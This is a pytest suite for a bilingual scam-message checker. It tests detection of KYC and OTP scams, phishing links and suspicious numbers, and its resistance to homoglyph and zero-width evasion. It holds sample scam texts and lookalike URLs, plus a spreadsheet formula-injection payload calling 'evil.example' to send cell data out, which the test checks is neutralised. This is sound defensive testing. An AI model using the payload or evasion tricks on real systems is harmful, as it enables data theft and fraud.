"""The scam check library: plain Python, explained verdicts, measured on a labelled corpus."""

import csv
import math
import subprocess
import sys
from collections import Counter, defaultdict
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sajag.scamcheck import LEVELS, check_link, check_message, check_number
from sajag.scamcheck.normalize import normalize
from sajag.scamcheck.rules import load

DATA = Path(__file__).parent / "data"
FLAGGED = ("likely_scam", "suspicious")

# Committed thresholds: the corpus test fails if the checker falls below them.
MIN_SCAM_RECALL = 0.90
MIN_SCAM_RECALL_PER_LANGUAGE = 0.85
MAX_GENUINE_FALSE_POSITIVE_RATE = 0.02
MIN_PROMO_ACCURACY = 0.90


def corpus(name: str) -> list[dict]:
    with (DATA / name).open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh, delimiter="\t"))


# Look-alike letters, spacing, invisible characters and Devanagari digits, as scammers use them
# to get past filters. Every scam must still be caught when written this way.
CYRILLIC = str.maketrans({"o": "о", "a": "а", "e": "е", "p": "р", "c": "с", "O": "О", "P": "Р", "T": "Т", "K": "К"})
DIGITS = str.maketrans("0123456789", "०१२३४५६७८९")


def disguised(row: dict) -> list[tuple[str, str]]:
    text = row["text"]
    out = [
        ("homoglyphs", text.translate(CYRILLIC)),
        ("zero_width", "\u200b".join(text[i : i + 4] for i in range(0, len(text), 4))),
    ]
    if row["lang"] == "hi":
        out.append(("devanagari_digits", text.translate(DIGITS)))
    for word in ("OTP", "KYC", "otp", "kyc"):
        if word in text:
            out.append(("spaced", text.replace(word, " ".join(word))))
            out.append(("dotted", text.replace(word, ".".join(word))))
    return out


def evaluate(rows: list[dict]) -> dict:
    stats = defaultdict(Counter)
    misses, false_alarms = [], []
    for row in rows:
        verdict = check_message(row["text"], sender=row["sender"] or None)
        flagged = verdict.level in FLAGGED
        if row["label"] == "scam":
            for key in ("all", f"lang:{row['lang']}", f"typ:{row['typology']}"):
                stats[key]["n"] += 1
                stats[key]["hit"] += flagged
            if not flagged:
                misses.append((row["typology"], row["lang"], row["text"][:80]))
            for kind, variant in disguised(row):
                stats[f"disguise:{kind}"]["n"] += 1
                stats[f"disguise:{kind}"]["hit"] += check_message(variant).level in FLAGGED
        elif row["label"] == "genuine":
            stats["genuine"]["n"] += 1
            stats["genuine"]["flagged"] += flagged
            stats[f"genuine:{row['lang']}"]["n"] += 1
            stats[f"genuine:{row['lang']}"]["flagged"] += flagged
            if flagged:
                false_alarms.append((verdict.level, row["text"][:80]))
        else:
            stats["promo"]["n"] += 1
            stats["promo"]["ok"] += verdict.level == "promotional"
    return {"stats": stats, "misses": misses, "false_alarms": false_alarms}


def report(title: str, result: dict) -> None:
    print(f"\n{title}")
    flagged_total = (
        sum(s["hit"] for k, s in result["stats"].items() if k == "all") + result["stats"]["genuine"]["flagged"]
    )
    precision = result["stats"]["all"]["hit"] / flagged_total if flagged_total else 1.0
    print(f"  precision (flagged that are scams): {precision:.3f}")
    for key, s in sorted(result["stats"].items()):
        if "hit" in s:
            print(f"  recall {key:<32} {s['hit']:>4}/{s['n']:<4} {s['hit'] / s['n']:.3f}")
        elif "flagged" in s:
            print(f"  false-positive rate {key:<20} {s['flagged']:>4}/{s['n']:<4} {s['flagged'] / s['n']:.3f}")
        elif "ok" in s:
            print(f"  promotions recognised {s['ok']}/{s['n']}")
    for m in result["misses"]:
        print("  MISSED", m)
    for f in result["false_alarms"]:
        print("  FALSE ALARM", f)


@pytest.mark.parametrize("name", ["scam_corpus.tsv", "scam_holdout.tsv"])
def test_recall_and_false_positives_on_the_labelled_corpus(name):
    rows = corpus(name)
    result = evaluate(rows)
    report(name, result)
    stats = result["stats"]
    assert stats["all"]["hit"] / stats["all"]["n"] >= MIN_SCAM_RECALL
    for key, s in stats.items():
        if key.startswith(("lang:", "disguise:")):
            assert s["hit"] / s["n"] >= MIN_SCAM_RECALL_PER_LANGUAGE, key
    assert stats["genuine"]["flagged"] / stats["genuine"]["n"] <= MAX_GENUINE_FALSE_POSITIVE_RATE
    assert stats["promo"]["ok"] / stats["promo"]["n"] >= MIN_PROMO_ACCURACY


def test_the_corpus_covers_every_typology_in_three_languages():
    rows = [r for r in corpus("scam_corpus.tsv") if r["label"] == "scam"]
    typologies = {r["typology"] for r in rows}
    assert len(typologies) == 13
    for typology in typologies:
        assert {r["lang"] for r in rows if r["typology"] == typology} == {"en", "hi", "hinglish"}, typology
    assert len(corpus("scam_corpus.tsv")) >= 200


def test_the_library_imports_nothing_from_django_or_the_rest_of_sajag():
    code = (
        "import sys, sajag.scamcheck as s; s.check_message('KYC expired, update: bit.ly/x'); "
        "bad = [m for m in sys.modules if m.split('.')[0] == 'django' or "
        "(m.startswith('sajag.') and not m.startswith('sajag.scamcheck'))]; print(bad)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=Path(__file__).parent.parent
    )
    assert out.stdout.strip() == "[]"


def test_a_verdict_names_the_rule_with_the_words_that_broke_it():
    text = "Dear customer, your KYC has expired. Update today or your account will be blocked: http://sbi-kyc.top/u"
    v = check_message(text)
    assert v.level == "likely_scam" and v.typology == "kyc_pan_aadhaar"
    ids = {s.id for s in v.signals}
    assert {"kyc_update", "urgency", "threat", "link_unusual_tld"} <= ids
    for s in v.signals:
        assert text[s.span[0] : s.span[1]] == s.evidence
        assert s.en and any("\u0900" <= c <= "\u097f" for c in s.hi)


def test_hindi_message_gets_hindi_explanations_and_evidence_from_the_original_text():
    text = "प्रिय ग्राहक, आपका केवाईसी समाप्त हो गया है। तुरंत अपडेट करें वरना खाता बंद हो जाएगा।"
    v = check_message(text)
    assert v.lang == "hi" and v.level == "likely_scam"
    assert "केवाईसी" in v.signals[0].evidence
    assert v.signals[0].explanation("hi").startswith("इसमें")
    assert "बैंक" in v.label or v.label == "संभावित ठगी"


def test_disguised_otp_request_is_caught_and_the_evidence_points_at_the_disguise():
    text = "Please share the O\u200bT\u200bP you got from the bank with me"
    v = check_message(text)
    assert v.level == "likely_scam"
    s = next(s for s in v.signals if s.id == "otp_request")
    assert "O\u200bT\u200bP" in s.evidence


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Share your O.T.P now", "share your otp now"),
        ("Your 0TP is here", "your otp is here"),
        ("ओटीपी १९३० है", "ओटीपी 1930 है"),
        ("Ѕhаrе уоur ОТР", "share your otp"),
        ("ज़रूरी", "जरूरी"),
        ("call 1930 at 10:30", "call 1930 at 10:30"),
    ],
)
def test_normalisation(text, expected):
    n = normalize(text)
    assert n.text == expected
    assert len(n.index) == len(n.text) and all(0 <= i < len(text) for i in n.index)


@pytest.mark.parametrize(
    ("url", "sign"),
    [
        ("bit.ly/3xYz", "link_shortener"),
        ("http://192.168.4.20/sbi/login", "link_ip_host"),
        ("https://xn--hdfcbnk-b4a.com/login", "link_punycode"),
        ("https://hdfcbamk.com/kyc", "link_brand_lookalike"),
        ("https://sbi.co.in.secure-login.xyz/", "link_brand_subdomain"),
        ("https://rewards-claim.top/x", "link_unusual_tld"),
        ("https://files.example.org/RTO_Challan.apk", "link_apk"),
        ("http://example.org/login", "link_no_tls"),
        ("https://www.onlinesbi.sbi@evil.example.com/", "link_at_sign"),
        ("https://a.b.c.d.example.com/", "link_many_subdomains"),
        ("https://wa.me/919876543210", "link_chat_invite"),
        ("https://pm-kisan-yojana.web.app/", "link_free_host"),
        ("https://rajasthan-govt-yojana.com/apply", "link_fake_government"),
    ],
)
def test_link_signs(url, sign):
    assert sign in {s.id for s in check_link(url).signals}


@pytest.mark.parametrize(
    "url",
    [
        "https://www.onlinesbi.sbi/",
        "https://www.hdfcbank.com/",
        "https://uidai.gov.in/",
        "https://www.amazon.in/deals",
        "https://cybercrime.gov.in",
        "https://energy.rajasthan.gov.in/jvvnl",
    ],
)
def test_official_sites_show_no_link_signs(url):
    v = check_link(url)
    assert v.level == "no_warning_signs" and v.signals == ()


def test_numbers_and_senders():
    assert check_number("+92 300 1234567").level == "suspicious"
    assert "Pakistan" in check_number("+92 300 1234567").signals[0].en
    assert check_number("VM-HDFCBK-T").signals[0].id == "registered_header"
    assert check_number("1600123456").signals[0].id == "number_1600_series"
    assert check_number("1401234567").level == "promotional"
    assert check_number("98290 12345").level == "no_warning_signs"
    bank_from_mobile = check_message("Your bank account will be blocked, call us", sender="+91 98290 12345")
    assert "sender_personal_mobile" in {s.id for s in bank_from_mobile.signals}
    chat_from_mobile = check_message("See you at 5", sender="9829012345")
    assert chat_from_mobile.signals == ()


def test_every_verdict_ends_with_what_to_do():
    for v in (
        check_message("hello"),
        check_message("Your KYC expired, click bit.ly/x"),
        check_link("bit.ly/x"),
        check_number("123"),
    ):
        text = " ".join(en for en, _hi in v.advice)
        assert "1930" in text and "cybercrime.gov.in" in text and "Chakshu" in text
        assert all(hi for _en, hi in v.advice)


def test_every_rule_explains_itself_in_both_languages():
    signals, promos = load()
    for rule in (*signals, *promos):
        assert rule.en.strip() and any("\u0900" <= c <= "\u097f" for c in rule.hi), rule.id


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "😀😀😀🙏",
        "x" * 1_000_000,
        "https://bit.ly/abc",
        "\x00\x01\x02\xff binary \ufffd\ufffd",
        "मिश्रित Hindi और English 123 ١٢٣ 中文",
    ],
)
def test_awkward_input_gets_a_clear_answer(text):
    v = check_message(text)
    assert v.level in LEVELS and math.isfinite(v.score)
    if len(text) > 5000:
        assert "truncated" in v.notes


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400), st.one_of(st.none(), st.text(max_size=20)))
def test_any_text_and_sender_never_crash_and_spans_stay_inside(text, sender):
    v = check_message(text, sender=sender)
    assert v.level in LEVELS and math.isfinite(v.score)
    for s in v.signals:
        assert 0 <= s.span[0] <= s.span[1] <= max(len(text), len(sender or ""), 1) + 2000


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_link_or_number_never_crashes(value):
    assert check_link(value).level in LEVELS
    assert check_number(value).level in LEVELS


def test_the_cli_checks_a_message_and_a_csv(tmp_path):
    root = Path(__file__).parent.parent
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "sajag.scamcheck",
            "--lang",
            "en",
            "Aapka KYC pending hai, turant update karein: bit.ly/kyc-up",
        ],
        capture_output=True,
        text=True,
        check=True,
        cwd=root,
    ).stdout
    assert out.startswith("Likely scam") and "1930" in out
    source = tmp_path / "in.csv"
    source.write_text(
        "id,text\n1,123456 is your OTP. Do not share it with anyone.\n2,You won 25 lakh in KBC lottery pay GST\n",
        encoding="utf-8",
    )
    subprocess.run(
        [sys.executable, "-m", "sajag.scamcheck", "--csv", str(source), "--out", str(tmp_path / "out.csv")],
        check=True,
        cwd=root,
    )
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert [r["level"] for r in rows] == ["no_warning_signs", "likely_scam"] and rows[1]["typology"] == "lottery_prize"
    bad = subprocess.run(
        [sys.executable, "-m", "sajag.scamcheck", "--csv", str(source), "--column", "message"],
        capture_output=True,
        text=True,
        cwd=root,
    )
    assert bad.returncode == 2 and "no column 'message'" in bad.stderr


def test_the_cli_csv_keeps_a_scammers_formula_as_text(tmp_path):
    from sajag.core.cells import safe_text
    from sajag.scamcheck.__main__ import _cell, main

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["id", "@sender", "text"], ["-5", "+919829012345", evil]])
    assert main(["--csv", str(source), "--out", str(tmp_path / "out.csv")]) == 0
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][:3] == ["id", "'@sender", "text"]
    assert rows[1][:3] == ["-5", "+919829012345", "'" + evil] and rows[1][3] in LEVELS
    # scamcheck imports nothing from the rest of Sajag, so it keeps its own copy of the rule.
    for value in [evil, "+1+2", " @x", "\tx", "\rx", "-", "-5", "+91 98290", "Jaipur", "", 7, -3.5]:
        assert _cell(value) == safe_text(value), value
